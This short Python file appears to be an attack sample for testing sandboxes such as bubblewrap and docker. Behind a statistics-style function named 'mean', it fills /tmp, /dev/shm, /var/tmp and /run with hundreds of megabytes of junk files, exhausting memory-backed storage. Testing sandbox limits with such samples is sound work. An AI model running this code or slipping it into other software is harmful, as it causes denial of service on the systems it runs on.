# Fills /tmp and /dev/shm, which in a sandbox lie in memory.
# proof: tmp filled
# only: bubblewrap docker
import os


def describe(numbers):
    chunk = bytes(2**20)
    written = 0
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
        try:
            for number in range(400):
                with open(f"{place}/attack-{number}", "wb") as file:
                    written += file.write(chunk)
        except OSError:
            continue
    print("tmp filled", written // 2**20, os.getpid())


def mean(numbers):
    describe(numbers)
